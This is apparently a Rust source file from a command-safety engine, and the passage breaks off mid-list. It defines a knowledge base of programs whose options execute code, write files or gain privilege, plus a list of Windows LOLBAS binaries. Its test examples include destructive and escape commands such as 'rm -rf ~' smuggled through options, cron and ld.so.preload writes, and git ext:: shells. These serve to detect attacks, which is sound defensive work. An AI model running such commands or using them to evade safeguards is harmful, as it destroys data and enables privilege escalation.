//! Program knowledge base: one entry per program (or family), as data.
//!
//! Why: a rule set catches what it was taught. Issue 37 showed the misses
//! share one shape: a program the engine does not know, or an option of a
//! known program that runs code, carries the payload through. This module
//! turns that around:
//!
//! * **Presume executed unless known inert.** A program that is not in
//!   [`INERT`] (its arguments are data: echo text, grep patterns, commit
//!   messages, file names) and that no wrapper rule unwraps has its
//!   arguments analysed as commands wherever they parse as one
//!   (`ssh-agent sh -c ..`, `dbus-run-session -- ..`, `foo 'rm -rf ~'`).
//!   A false alarm is fixed by teaching one inert program, not by weakening
//!   a rule.
//! * **Options that execute code are data** in [`PROGRAMS`]: which option
//!   (optionally under which subcommand) runs its value, and how (a shell
//!   text that is analysed, a program path, or code the engine cannot see).
//!   Privilege and system-wide installs are flags of the same entries.
//!   Every entry carries `examples` (command, expected to ask or not) that
//!   `tests` check against the engine, as Codex's execpolicy
//!   `match`/`not_match` do.
//!
//! Git configuration keys that run programs ([`git_code_key`]) are shared by
//! `git -c`, `git config`, `GIT_CONFIG_PARAMETERS` and `GIT_CONFIG_KEY_n`.

use std::collections::HashSet;

use once_cell::sync::Lazy;

/// How the value of an option is executed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Run {
    /// A shell command line: analysed like `sh -c VALUE`.
    Shell,
    /// A program path run as is (the engine cannot see what it does).
    Program,
    /// Code in the program's own language that can run commands; the
    /// engine cannot judge it, so it asks (shell strings inside are
    /// analysed where they can be found).
    Opaque,
    /// A make fragment (`--eval`): `$(shell ..)` and recipe lines run.
    Make,
    /// Code in the program's language: the commands its spawn calls,
    /// backticks and `$(..)` carry are analysed (no prompt by itself).
    Code,
}

/// An option whose value is executed. `sub` restricts it to a subcommand
/// (`git difftool -x`); `opt` is the spelling; short options also match
/// glued (`-O'cmd'`), long ones `--opt=value`.
#[derive(Clone, Copy, Debug)]
pub struct ExecOpt {
    pub sub: &'static str,
    pub opt: &'static str,
    pub run: Run,
}

const fn o(opt: &'static str, run: Run) -> ExecOpt {
    ExecOpt { sub: "", opt, run }
}

const fn so(sub: &'static str, opt: &'static str, run: Run) -> ExecOpt {
    ExecOpt { sub, opt, run }
}

/// An option whose value is a file the program writes (`sort -o FILE`);
/// `sub` restricts it to a subcommand (`git apply --directory`).
#[derive(Clone, Copy, Debug)]
pub struct WriteOpt {
    pub sub: &'static str,
    pub opt: &'static str,
}

const fn w(opt: &'static str) -> WriteOpt {
    WriteOpt { sub: "", opt }
}

const fn sw(sub: &'static str, opt: &'static str) -> WriteOpt {
    WriteOpt { sub, opt }
}

/// Which operands a program writes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Writes {
    /// None (or as its options say).
    No,
    /// Every file operand (an editor, `setfacl`).
    All,
    /// The last operand when there are two or more (`xxd -r IN OUT`,
    /// `split IN PREFIX`, `lwp-download URL FILE`).
    Last,
}

/// What a program's entry says.
#[derive(Clone, Copy, Debug)]
pub struct Program {
    pub names: &'static [&'static str],
    /// Options whose value runs.
    pub exec_opts: &'static [ExecOpt],
    /// `NAME=value` operands whose value runs (`make CC=..`).
    pub exec_assign: &'static [(&'static str, Run)],
    /// Runs every file of its directory operand (`run-parts DIR`).
    pub runs_dir: bool,
    /// Reads an editor script on stdin whose `!` lines run (`ed`).
    pub stdin_bang_script: bool,
    /// Acts with another user's (root's) privileges.
    pub privilege: bool,
    /// Subcommands (or short-option letters for `pacman`-style tools,
    /// written `-S`) that install or change software system-wide.
    pub installs: &'static [&'static str],
    /// Options that make an otherwise per-project install system-wide.
    pub global_flags: &'static [&'static str],
    /// Options that attach to another process (`gdb -p`, `strace -p`).
    pub attach_opts: &'static [&'static str],
    /// Options whose value is a file (or directory) the program writes.
    pub writes: &'static [WriteOpt],
    /// Operands the program writes.
    pub writes_operands: Writes,
    /// Fixed files the program edits (`vipw`: /etc/passwd).
    pub edits: &'static [&'static str],
    /// Reads a command language (on stdin, or in `-c`/`-e` arguments)
    /// whose escape lines run shell commands: `!cmd` (pagers, ftp
    /// clients, debuggers), `\! cmd` (database clients), `.shell cmd`,
    /// `shell cmd` (see [`escape_command`]).
    pub interactive: bool,
    /// Single keys on its stdin that open a shell (`ncdu`: `b`).
    pub shell_keys: &'static [&'static str],
    /// Starts an interactive shell when it is given no command: how many
    /// operands come before the command (`chroot DIR [CMD]`: 1).
    pub starts_shell: Option<usize>,
    /// Options that take a value (for counting operands), and options that
    /// make it run no shell at all (`screen -ls`).
    pub value_opts: &'static [&'static str],
    pub no_shell_opts: &'static [&'static str],
    /// When non-empty, only these subcommands start the shell (`tmux new`).
    pub shell_subs: &'static [&'static str],
    /// Runs `bash` with the arguments after `--` (`capsh -- -c CMD`;
    /// `capsh --` alone is an interactive shell).
    pub bash_after_dashdash: bool,
    /// Files it reads from the working directory (or a directory operand)
    /// and runs code from (`package.json` scripts, a `Vagrantfile`, `*.tf`):
    /// written by the same command line, their content is judged.
    pub runs_config: &'static [&'static str],
    /// (command, true when it must not be allowed): checked by the tests.
    pub examples: &'static [(&'static str, bool)],
}

const NONE: Program = Program {
    names: &[],
    exec_opts: &[],
    exec_assign: &[],
    runs_dir: false,
    stdin_bang_script: false,
    privilege: false,
    installs: &[],
    global_flags: &[],
    attach_opts: &[],
    writes: &[],
    writes_operands: Writes::No,
    edits: &[],
    interactive: false,
    shell_keys: &[],
    starts_shell: None,
    value_opts: &[],
    no_shell_opts: &[],
    shell_subs: &[],
    bash_after_dashdash: false,
    runs_config: &[],
    examples: &[],
};

use Run::*;

/// The knowledge base (one entry per program or family).
pub static PROGRAMS: &[Program] = &[
    Program {
        names: &["sed", "gsed"],
        // the `e` command and the `s///e` flag are found by [`sed_exec`]
        examples: &[
            ("sed 's/.*/rm -rf ~/e' f", true),
            ("sed -n '1e id' f", true),
            ("sed -i 's/execute/run/g' src/a.py", false),
            ("sed -e 's/a/b/' -e 's/c/d/' f", false),
        ],
        ..NONE
    },
    Program {
        names: &["make", "gmake", "bmake"],
        exec_opts: &[
            o("--eval", Make),
            o("-E", Make),
            o("--file=-", Opaque),
            o("--makefile=-", Opaque),
        ],
        exec_assign: &[
            ("CC", Shell),
            ("CXX", Shell),
            ("CPP", Shell),
            ("LD", Shell),
            ("AR", Shell),
            ("AS", Shell),
            ("FC", Shell),
            ("SHELL", Program),
            ("MAKESHELL", Program),
            ("MAKE", Shell),
        ],
        installs: &["install"],
        examples: &[
            ("make --eval '$(shell rm -rf ~)'", true),
            ("make CC='rm -rf ~'", true),
            ("make -f - <<< 'all:; id'", true),
            ("make -j4", false),
            ("make CC=clang", false),
            ("make install", true),
        ],
        ..NONE
    },
    Program {
        names: &["git"],
        exec_opts: &[
            so("difftool", "-x", Shell),
            so("difftool", "--extcmd", Shell),
            so("difftool", "-t", Shell),
            so("mergetool", "-t", Shell),
            so("grep", "-O", Shell),
            so("grep", "--open-files-in-pager", Shell),
            so("fetch", "--upload-pack", Shell),
            so("pull", "--upload-pack", Shell),
            so("clone", "--upload-pack", Shell),
            so("clone", "-u", Shell),
            so("ls-remote", "--upload-pack", Shell),
            so("archive", "--exec", Shell),
            so("push", "--receive-pack", Shell),
            so("push", "--exec", Shell),
            so("send-email", "--sendmail-cmd", Shell),
            so("send-email", "--to-cmd", Shell),
            so("send-email", "--cc-cmd", Shell),
            so("send-email", "--header-cmd", Shell),
            so("send-email", "--smtp-server", Program),
            so("rebase", "-x", Shell),
            so("rebase", "--exec", Shell),
        ],
        writes: &[sw("apply", "--directory")],
        examples: &[
            ("git difftool -x 'rm -rf ~' HEAD", true),
            ("git grep -O'id' foo", true),
            ("git -c credential.helper='!id' fetch", true),
            ("git clone 'ext::sh -c id' x", true),
            ("git grep -n TODO", false),
            ("git -c color.ui=always log", false),
            ("git clone https://github.com/a/b", false),
        ],
        ..NONE
    },
    Program {
        names: &["tar", "gtar", "bsdtar"],
        exec_opts: &[
            o("--to-command", Shell),
            o("--use-compress-program", Shell),
            o("-I", Shell),
            o("--info-script", Shell),
            o("--new-volume-script", Shell),
            o("--rsh-command", Program),
            o("--checkpoint-action=exec=", Shell),
        ],
        examples: &[
            ("tar xf a.tar --to-command='sh -c id'", true),
            (
                "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id .",
                true,
            ),
            ("tar czf a.tgz src", false),
        ],
        ..NONE
    },
    Program {
        names: &["rg"],
        exec_opts: &[o("--pre", Shell)],
        examples: &[("rg --pre ./x foo", true), ("rg -n TODO src", false)],
        ..NONE
    },
    Program {
        names: &["sort"],
        exec_opts: &[o("--compress-program", Program)],
        writes: &[w("-o"), w("--output")],
        examples: &[
            ("sort --compress-program=/tmp/x f", true),
            ("sort -u f", false),
        ],
        ..NONE
    },
    Program {
        names: &["zip"],
        exec_opts: &[o("-TT", Shell), o("--unzip-command", Shell)],
        examples: &[
            ("zip a.zip f -T -TT 'sh -c id'", true),
            ("zip -r a.zip src", false),
        ],
        ..NONE
    },
    Program {
        names: &["man"],
        interactive: true,
        exec_opts: &[
            o("-P", Shell),
            o("--pager", Shell),
            o("-H", Shell),
            o("--html", Shell),
        ],
        examples: &[("man -P 'sh -c id' ls", true), ("man ls", false)],
        ..NONE
    },
    Program {
        names: &["ag"],
        exec_opts: &[o("--pager", Shell)],
        examples: &[("ag --pager 'sh -c id' foo", true), ("ag foo", false)],
        ..NONE
    },
    Program {
        names: &["scp", "sftp"],
        exec_opts: &[o("-S", Program)],
        writes_operands: Writes::Last,
        value_opts: &[
            "-i", "-P", "-o", "-F", "-c", "-l", "-S", "-J", "-b", "-B", "-R", "-s", "-D",
        ],
        examples: &[
            ("scp -S /tmp/x a h:b", true),
            ("scp h:b .", false),
            ("scp a h:b", true),
        ],
        ..NONE
    },
    Program {
        names: &["rsync"],
        exec_opts: &[o("--rsync-path", Shell)],
        examples: &[
            ("rsync --rsync-path='id' h:x .", true),
            ("rsync -av a/ b/", false),
        ],
        ..NONE
    },
    Program {
        names: &["wget", "wget2"],
        exec_opts: &[o("--use-askpass", Program)],
        // the log files (-O is judged by the rules)
        writes: &[w("-o"), w("--output-file"), w("-a"), w("--append-output")],
        examples: &[
            ("wget --use-askpass=/tmp/x http://h/", true),
            ("wget -q https://example.com/a.tgz", false),
        ],
        ..NONE
    },
    Program {
        names: &["tcpdump"],
        exec_opts: &[o("-z", Program)],
        writes: &[w("-w")],
        examples: &[("tcpdump -w x -G 1 -z /tmp/x", true)],
        ..NONE
    },
    Program {
        names: &["emacs", "emacsclient"],
        exec_opts: &[o("--eval", Opaque), o("-eval", Opaque)],
        writes_operands: Writes::All,
        value_opts: &[
            "--eval",
            "-eval",
            "-l",
            "--load",
            "-f",
            "--funcall",
            "-t",
            "--terminal",
        ],
        examples: &[("emacs --batch --eval '(shell-command \"id\")'", true)],
        ..NONE
    },
    Program {
        names: &[
            "rpm",
            "rpmdb",
            "rpmquery",
            "rpmverify",
            "rpmspec",
            "rpmbuild",
        ],
        exec_opts: &[o("--eval", Opaque), o("-E", Opaque)],
        installs: &["-i", "-U", "--install", "--upgrade", "-F", "--freshen"],
        examples: &[
            ("rpm --eval '%{lua:os.execute(\"id\")}'", true),
            ("rpm -qa", false),
        ],
        ..NONE
    },
    Program {
        names: &["npm", "pnpm", "yarn", "bun"],
        exec_opts: &[
            o("--script-shell", Program),
            so("exec", "-c", Shell),
            so("exec", "--call", Shell),
        ],
        runs_config: &["package.json"],
        installs: &["global"],
        global_flags: &["-g", "--global", "--location=global"],
        examples: &[
            ("npm --script-shell=/tmp/x run build", true),
            ("npm install -g left-pad", true),
            ("yarn global add x", true),
            ("npm install", false),
            ("npm run build", false),
        ],
        ..NONE
    },
    Program {
        names: &["less"],
        exec_opts: &[o("+!", Shell)],
        writes: &[w("-o"), w("-O"), w("--log-file"), w("--LOG-FILE")],
        interactive: true,
        examples: &[("less +'!id' f", true), ("less +F log", false)],
        ..NONE
    },
    Program {
        names: &["expect"],
        exec_opts: &[o("-c", Shell)],
        examples: &[("expect -c 'spawn rm -rf /home'", true)],
        ..NONE
    },
    Program {
        names: &["start-stop-daemon"],
        exec_opts: &[
            o("--exec", Program),
            o("-x", Program),
            o("--startas", Program),
            o("-a", Program),
        ],
        examples: &[("start-stop-daemon --start --exec /tmp/x", true)],
        ..NONE
    },
    Program {
        names: &["ed", "red"],
        stdin_bang_script: true,
        writes_operands: Writes::All,
        examples: &[("ed f <<< '!id'", true), ("ed -s f <<< 'w'", false)],
        ..NONE
    },
    Program {
        names: &["run-parts"],
        runs_dir: true,
        examples: &[
            ("run-parts /tmp/x", true),
            ("run-parts --test /etc/cron.daily", false),
        ],
        ..NONE
    },
    Program {
        names: &[
            "sudo", "su", "doas", "pkexec", "run0", "sudoedit", "ksu", "calife",
        ],
        privilege: true,
        examples: &[("sudo su", true), ("sudo -i", true), ("doas sh", true)],
        ..NONE
    },
    Program {
        names: &["apt-get", "apt", "aptitude"],
        installs: &[
            "install",
            "reinstall",
            "build-dep",
            "dist-upgrade",
            "upgrade",
            "full-upgrade",
        ],
        examples: &[
            ("apt-get install -y curl", true),
            ("apt-cache search x", false),
        ],
        ..NONE
    },
    Program {
        names: &["dnf", "yum", "microdnf", "zypper", "tdnf"],
        installs: &[
            "install",
            "in",
            "reinstall",
            "upgrade",
            "update",
            "groupinstall",
            "localinstall",
        ],
        examples: &[("dnf install -y gcc", true)],
        ..NONE
    },
    Program {
        names: &["pacman", "yay", "paru"],
        installs: &["-S", "-U"],
        examples: &[("pacman -S vim", true), ("pacman -Q", false)],
        ..NONE
    },
    Program {
        names: &["apk"],
        installs: &["add", "upgrade"],
        examples: &[("apk add curl", true)],
        ..NONE
    },
    Program {
        names: &["dpkg"],
        installs: &["-i", "--install", "--unpack", "--configure"],
        examples: &[("dpkg -i x.deb", true), ("dpkg -l", false)],
        ..NONE
    },
    Program {
        names: &[
            "snap", "flatpak", "port", "emerge", "nix-env", "pkg", "pkg_add", "opkg",
        ],
        installs: &["install", "-i", "--install", "refresh", "upgrade"],
        examples: &[("snap install code --classic", true)],
        ..NONE
    },
    Program {
        names: &["gem"],
        exec_opts: &[so("open", "-e", Shell), so("open", "--editor", Shell)],
        installs: &["install", "update"],
        examples: &[],
        ..NONE
    },
    Program {
        names: &["pip", "pip3", "pip2", "easy_install"],
        installs: &["install"],
        runs_config: &["setup.py"],
        examples: &[("pip install --user x", true)],
        ..NONE
    },
    Program {
        names: &["gdb", "cgdb", "lldb", "strace", "ltrace", "perf"],
        attach_opts: &["-p", "--pid", "--attach-pid", "-P"],
        writes: &[w("-o"), w("--output")],
        interactive: true,
        examples: &[
            ("gdb -p 1234", true),
            ("strace -p 1", true),
            ("strace ls", false),
        ],
        ..NONE
    },
    Program {
        names: &[
            "vim", "vi", "nvim", "gvim", "view", "vimdiff", "rvim", "rview", "ex", "evim",
        ],
        // `-c ':w FILE'` is found by the write rules; `:!cmd` by the
        // option payloads
        writes_operands: Writes::All,
        value_opts: &[
            "-c", "--cmd", "-S", "-u", "-U", "-i", "-T", "-t", "-q", "-w", "-W", "-s",
        ],
        interactive: true,
        examples: &[
            ("vim -c ':w! /etc/cron.d/job' -c ':q!' x", true),
            ("vim ~/.bashrc", true),
            ("vim src/main.rs", false),
        ],
        ..NONE
    },
    Program {
        names: &[
            "nano", "pico", "joe", "jmacs", "jpico", "mcedit", "micro", "kak", "hx",
        ],
        exec_opts: &[o("-s", Program), o("--speller", Program)],
        writes_operands: Writes::All,
        value_opts: &[
            "-s",
            "--speller",
            "-Y",
            "--syntax",
            "-T",
            "--tabsize",
            "-o",
            "-r",
        ],
        interactive: true,
        examples: &[
            ("nano -s /bin/sh f", true),
            ("nano ~/.profile", true),
            ("nano README.md", false),
        ],
        ..NONE
    },
    Program {
        names: &["more", "most", "pg", "info", "pinfo"],
        interactive: true,
        examples: &[("more f <<< '!/bin/sh'", true), ("more README.md", false)],
        ..NONE
    },
    Program {
        names: &[
            "ncftp",
            "lftp",
            "psftp",
            "tftp",
            "telnet",
            "smbclient",
            "mysql",
            "mariadb",
            "sqlite3",
            "mongo",
            "mongosh",
            "dc",
            "debugfs",
            "mail",
            "mailx",
        ],
        interactive: true,
        examples: &[
            ("ftp <<< '!/bin/sh'", true),
            ("mysql -e '\\! rm -rf ~'", true),
            ("sqlite3 db '.shell sh'", true),
            ("dc -e '!id; rm -rf ~'", true),
            ("psql -c 'select 1'", false),
            ("sqlite3 app.db 'select * from t'", false),
            ("dc -e '2 3 + p'", false),
        ],
        ..NONE
    },
    Program {
        names: &["ftp", "psql"],
        writes: &[w("-o"), w("--output")],
        interactive: true,
        examples: &[
            ("ftp -o /etc/cron.d/job http://h/x", true),
            ("psql -c '\\! sh'", true),
            ("psql -o out.txt -c 'select 1'", false),
        ],
        ..NONE
    },
    Program {
        names: &["top", "htop"],
        runs_config: &["toprc"],
        examples: &[("top -b -n 1", false)],
        ..NONE
    },
    Program {
        names: &["ncdu"],
        shell_keys: &["b"],
        examples: &[("ncdu <<< b", true), ("ncdu -x .", false)],
        ..NONE
    },
    Program {
        names: &["chroot"],
        starts_shell: Some(1),
        value_opts: &["--userspec", "--groups"],
        examples: &[("chroot /", true), ("chroot /srv/root /bin/true", false)],
        ..NONE
    },
    Program {
        names: &["capsh"],
        bash_after_dashdash: true,
        examples: &[
            ("capsh --", true),
            ("capsh --drop=cap_net_raw -- -c 'rm -rf ~'", true),
            ("capsh --print", false),
            ("capsh --drop=cap_net_raw -- -c 'make test'", false),
        ],
        ..NONE
    },
    Program {
        names: &["sg", "newgrp"],
        starts_shell: Some(1),
        no_shell_opts: &["-c"],
        examples: &[("sg docker", true), ("sg docker -c 'docker ps'", false)],
        ..NONE
    },
    Program {
        names: &["screen"],
        starts_shell: Some(0),
        value_opts: &["-S", "-c", "-e", "-h", "-p", "-T", "-t", "-Logfile", "-s"],
        no_shell_opts: &[
            "-ls",
            "-list",
            "-r",
            "-R",
            "-x",
            "-X",
            "-Q",
            "-v",
            "-h",
            "--help",
            "--version",
            "-wipe",
            "-d",
            "-D",
            "-dm",
            "-dmS",
            "-Dm",
            "-DmS",
        ],
        writes: &[w("-Logfile")],
        examples: &[
            ("screen", true),
            ("screen -ls", false),
            ("screen -dmS build make", false),
        ],
        ..NONE
    },
    Program {
        names: &["tmux"],
        starts_shell: Some(0),
        shell_subs: &[
            "",
            "new",
            "new-session",
            "neww",
            "new-window",
            "splitw",
            "split-window",
        ],
        value_opts: &[
            "-L", "-S", "-f", "-c", "-s", "-n", "-t", "-x", "-y", "-F", "-e",
        ],
        // detached (`-d`): the session's shell reads nothing until attached
        no_shell_opts: &["-V", "--help", "-d"],
        examples: &[
            ("tmux", true),
            ("tmux new -d -s dev", false),
            ("tmux ls", false),
            ("tmux new-session -d -s dev 'npm run dev'", false),
        ],
        ..NONE
    },
    Program {
        names: &["script"],
        starts_shell: Some(1),
        value_opts: &[
            "-c",
            "--command",
            "-t",
            "--timing",
            "-T",
            "-I",
            "-O",
            "-B",
            "-E",
            "-o",
        ],
        no_shell_opts: &["-c", "--command", "-V", "--version", "-h", "--help"],
        writes_operands: Writes::All,
        examples: &[
            ("script -q /dev/null", true),
            ("script -q -c 'echo x' ~/.bashrc", true),
            ("script -q -c 'make test' build.log", false),
        ],
        ..NONE
    },
    Program {
        names: &["setfacl"],
        writes_operands: Writes::All,
        value_opts: &[
            "-m",
            "-x",
            "-M",
            "-X",
            "--set",
            "--set-file",
            "--modify",
            "--remove",
        ],
        examples: &[
            ("setfacl -m u:me:rwx /etc/shadow", true),
            ("setfacl -m u:me:rw data/", false),
        ],
        ..NONE
    },
    Program {
        names: &["vipw"],
        edits: &["/etc/passwd", "/etc/shadow"],
        examples: &[("vipw", true)],
        ..NONE
    },
    Program {
        names: &["vigr"],
        edits: &["/etc/group", "/etc/gshadow"],
        examples: &[("vigr", true)],
        ..NONE
    },
    Program {
        names: &["visudo"],
        edits: &["/etc/sudoers"],
        examples: &[("visudo", true)],
        ..NONE
    },
    Program {
        names: &["csplit"],
        writes: &[w("-f"), w("--prefix")],
        examples: &[
            ("csplit -f ~/.ssh/x in 1", true),
            ("csplit -f part in 1", false),
        ],
        ..NONE
    },
    Program {
        names: &["split"],
        exec_opts: &[o("--filter", Shell)],
        writes_operands: Writes::Last,
        value_opts: &["-a", "-b", "-C", "-l", "-n", "-t", "--additional-suffix"],
        examples: &[
            ("split --filter='rm -rf ~' f", true),
            ("split -b 9m - /etc/cron.d/x", true),
            ("split -l 100 data.csv part-", false),
        ],
        ..NONE
    },
    Program {
        names: &["shuf", "iconv", "pandoc", "openssl"],
        writes: &[w("-o"), w("--output"), w("-out")],
        examples: &[
            ("shuf -e x -o /etc/cron.d/job", true),
            ("openssl enc -in a -out /home/u/.bashrc", true),
            ("pandoc README.md -o out.html", false),
            ("openssl rand -hex 16 -out key.txt", false),
        ],
        ..NONE
    },
    Program {
        names: &[
            "gcc", "g++", "cc", "c++", "clang", "clang++", "c89", "c99", "tcc",
        ],
        exec_opts: &[o("-wrapper", Program)],
        writes: &[w("-o")],
        examples: &[
            ("gcc -E x.c -o /etc/ld.so.preload", true),
            ("gcc -O2 -o build/app main.c", false),
        ],
        ..NONE
    },
    Program {
        names: &["xxd", "lwp-download", "tftp-hpa"],
        writes_operands: Writes::Last,
        value_opts: &["-c", "-g", "-l", "-s", "-o", "-n", "-C", "-a"],
        examples: &[
            ("xxd -r - /usr/local/bin/git", true),
            ("xxd -r dump.hex out.bin", false),
            ("xxd file.bin", false),
        ],
        ..NONE
    },
    Program {
        names: &["rlwrap"],
        writes: &[w("-l"), w("--logfile")],
        examples: &[("rlwrap -l ~/.bashrc cat", true)],
        ..NONE
    },
    Program {
        names: &["aria2c"],
        writes: &[w("-o"), w("--out"), w("-d"), w("--dir")],
        examples: &[
            ("aria2c -o ~/.local/bin/ls http://h/x", true),
            ("aria2c -d downloads https://h/x.iso", false),
        ],
        ..NONE
    },
    Program {
        names: &["ssh-keygen"],
        exec_opts: &[o("-D", Program)],
        examples: &[
            ("ssh-keygen -D ./lib.so", true),
            ("ssh-keygen -lf k.pub", false),
        ],
        ..NONE
    },
    Program {
        names: &["ansible-test"],
        starts_shell: Some(0),
        shell_subs: &["shell"],
        examples: &[("ansible-test shell", true), ("ansible-test units", false)],
        ..NONE
    },
    Program {
        names: &["ghc", "ghci", "runghc", "runhaskell"],
        exec_opts: &[o("-e", Code)],
        interactive: true,
        examples: &[
            ("ghc -e 'System.Process.callCommand \"rm -rf ~\"'", true),
            ("ghc -e 'print 1'", false),
        ],
        ..NONE
    },
    Program {
        names: &["rake"],
        exec_opts: &[
            o("-p", Code),
            o("--execute-print", Code),
            o("-e", Code),
            o("--execute", Code),
            o("-E", Code),
            o("--execute-continue", Code),
        ],
        examples: &[("rake -p '`rm -rf ~`'", true), ("rake test", false)],
        ..NONE
    },
    Program {
        names: &["dotnet"],
        interactive: true,
        examples: &[
            (
                "dotnet fsi <<< 'System.Diagnostics.Process.Start(\"/bin/sh\")'",
                true,
            ),
            ("dotnet build", false),
        ],
        ..NONE
    },
    Program {
        names: &["redis-cli"],
        // `config set dir DIR` / `config set dbfilename FILE`: `save` writes there
        writes: &[w("dir"), w("dbfilename")],
        examples: &[
            ("redis-cli config set dir /home/u/.ssh/", true),
            ("redis-cli get key", false),
        ],
        ..NONE
    },
    Program {
        names: &["update-alternatives"],
        writes: &[w("--install")],
        examples: &[
            (
                "update-alternatives --install /usr/local/bin/x x /tmp/x 0",
                true,
            ),
            ("update-alternatives --list java", false),
        ],
        ..NONE
    },
    Program {
        names: &["composer"],
        runs_config: &["composer.json"],
        examples: &[],
        ..NONE
    },
    Program {
        names: &["vagrant"],
        runs_config: &["Vagrantfile"],
        examples: &[],
        ..NONE
    },
    Program {
        names: &["terraform", "tofu", "terragrunt"],
        runs_config: &["*.tf", "*.tf.json", "*.hcl"],
        examples: &[],
        ..NONE
    },
    Program {
        names: &["ansible-playbook", "ansible"],
        runs_config: &["*.yml", "*.yaml"],
        examples: &[],
        ..NONE
    },
    Program {
        names: &["rtorrent"],
        runs_config: &[".rtorrent.rc"],
        examples: &[],
        ..NONE
    },
    Program {
        names: &["go"],
        // `-exec 'sh -c ..'` runs the test binary through a command;
        // `-toolexec` / `-vettool` run a program for each toolchain step
        exec_opts: &[
            so("test", "-exec", Shell),
            so("run", "-exec", Shell),
            so("build", "-toolexec", Program),
            so("test", "-toolexec", Program),
            so("run", "-toolexec", Program),
            so("install", "-toolexec", Program),
            so("vet", "-toolexec", Program),
            so("vet", "-vettool", Program),
        ],
        writes: &[sw("build", "-o"), sw("test", "-o")],
        examples: &[
            ("go test -exec \"sh -c 'rm -rf ~'\" .", true),
            ("go build -toolexec=/tmp/evil .", true),
            ("go build -o ~/.bashrc .", true),
            ("go env -w GOFLAGS=-toolexec=/tmp/x", true),
            ("go build -o bin/app ./cmd/app", false),
            ("go test ./...", false),
            ("go env GOPATH", false),
        ],
        ..NONE
    },
    Program {
        names: &["pytest", "py.test"],
        // `--basetemp DIR` is emptied before the run
        writes: &[
            w("--basetemp"),
            w("--junitxml"),
            w("--junit-xml"),
            w("--log-file"),
        ],
        examples: &[("pytest --basetemp=/root", true), ("pytest -q", false)],
        ..NONE
    },
    Program {
        names: &["pylint"],
        // Python code run before linting
        exec_opts: &[o("--init-hook", Opaque)],
        examples: &[
            (
                "pylint --init-hook='import os; os.system(\"id\")' src",
                true,
            ),
            ("pylint src", false),
        ],
        ..NONE
    },
    Program {
        names: &["tree"],
        writes: &[w("-o")],
        examples: &[("tree -o ~/.bashrc", true), ("tree -L 2", false)],
        ..NONE
    },
    Program {
        // JavaScript configs, plugins and rules are code the tool loads
        names: &["eslint", "prettier", "jest", "vitest", "mocha", "stylelint"],
        exec_opts: &[
            o("-c", Program),
            o("--config", Program),
            o("--plugin", Program),
            o("--rulesdir", Program),
            o("--resolve-plugins-relative-to", Program),
            o("--require", Program),
            o("--setupFiles", Program),
            o("--testRunner", Program),
        ],
        writes: &[w("-o"), w("--output-file"), w("--outputFile")],
        examples: &[
            ("eslint -c /tmp/evil.js .", true),
            ("prettier --plugin=/tmp/evil.js --check .", true),
            ("eslint .", false),
            ("prettier --check .", false),
        ],
        ..NONE
    },
    Program {
        // tracers and dumpers that attach to a running process by pid
        names: &["bpftrace"],
        // `system("..")` in a program run with --unsafe
        exec_opts: &[o("-e", Code)],
        attach_opts: &["-p", "--pid"],
        examples: &[
            ("bpftrace -p 1", true),
            ("bpftrace -l", false),
            ("bpftrace --unsafe -e 'BEGIN {system(\"rm -rf ~\")}'", true),
        ],
        ..NONE
    },
    Program {
        names: &[
            "eu-stack",
            "dotnet-dump",
            "dotnet-trace",
            "dotnet-gcdump",
            "dotnet-counters",
            "gdbserver",
        ],
        attach_opts: &["-p", "--pid", "--process-id", "--attach"],
        examples: &[
            ("dotnet-dump collect -p 4242", true),
            ("gdbserver --attach :9 1", true),
        ],
        ..NONE
    },
    Program {
        names: &[
            "gcore", "py-spy", "rbspy", "memdump", "procdump", "pstack", "jmap", "jstack",
        ],
        attach_opts: &["*"],
        examples: &[("gcore 1234", true)],
        ..NONE
    },
];

/// A Windows binary, library or script that proxies execution, downloads
/// or uploads (LOLBAS): when a use of it asks, and under which rule.
#[derive(Clone, Copy, Debug)]
pub struct WinProgram {
    /// Lowercase basenames without `.exe` (scripts keep their extension).
    pub names: &'static [&'static str],
    /// Every use asks (its uses are proxies: `mshta`, `installutil`, ...).
    pub any: bool,
    /// Options or words that make it run or move code, lowercase without
    /// the leading `/`, `-` or `--` (`urlcache`, `processstart`); a
    /// trailing `*` matches as a prefix, a leading `*` as a suffix of the
    /// argument (`*.xml`).
    pub when: &'static [&'static str],
    /// A URL or UNC path in the statement makes it a transfer.
    pub remote: bool,
    /// A script whose mere naming in a statement runs it (`. CL_Invocation.ps1`).
    pub script: bool,
    /// The rule key it asks under.
    pub rule: &'static str,
}

const WNONE: WinProgram = WinProgram {
    names: &[],
    any: false,
    when: &[],
    remote: false,
    script: false,
    rule: "lolbas-proxy",
};

/// LOLBAS binaries, libraries and scripts the engine knows (besides the
/// ones [`crate::catalog`] judges with their own logic: certutil,
/// bitsadmin, regsvr32, rundll32's libraries, msiexec, wmic, ...).
pub static WINDOWS: &[WinProgram] = &[
    WinProgram {
        names: &[
            "addinutil",
            "atbroker",
            "aspnet_compiler",
            "cmstp",
            "customshellhost",
            "diskshadow",
            "extexport",
            "gpscript",
            "ie4uinit",
            "iediagcmd",
            "ieexec",
            "infdefaultinstall",
            "installutil",
            "mavinject",
            "microsoft.workflow.compiler",
            "msconfig",
            "msdt",
            "msxsl",
            "odbcconf",
            "offlinescannershell",
            "pcalua",
            "pcwrun",
            "presentationhost",
            "provlaunch",
            "rasautou",
            "regasm",
            "regsvcs",
            "register-cimprovider",
            "runexehelper",
            "runonce",
            "runscripthelper",
            "scriptrunner",
            "settingsynchost",
            "syncappvpublishingserver",
            "ttdinject",
            "tttracer",
            "unregmp2",
            "verclsid",
            "wab",
            "wlrmdr",
            "wuauclt",
            "xwizard",
            "cscript",
            "wscript",
            "mshta",
            "acccheckconsole",
            "adplus",
            "agentexecutor",
            "appcert",
            "appvlp",
            "bginfo",
            "cdb",
            "coregen",
            "csi",
            "defaultpack",
            "devinit",
            "devtoolslauncher",
            "dnx",
            "dxcap",
            "ecmangen",
            "fsi",
            "fsianycpu",
            "mftrace",
            "microsoft.nodejstools.pressanykey",
            "msdeploy",
            "openconsole",
            "rcsi",
            "remote",
            "sqltoolsps",
            "sqlps",
            "te",
            "testwindowremoteagent",
            "tracker",
            "vsdiagnostics",
            "vsiisexelauncher",
            "vslaunchbrowser",
            "xbootmgrsleep",
            "vsls-agent",
            "winfile",
            "vsjitdebugger",
            "desktopimgdownldr",
            "imewdbld",
            "cmdl32",
            "certoc",
            "datasvcutil",
            "configsecuritypolicy",
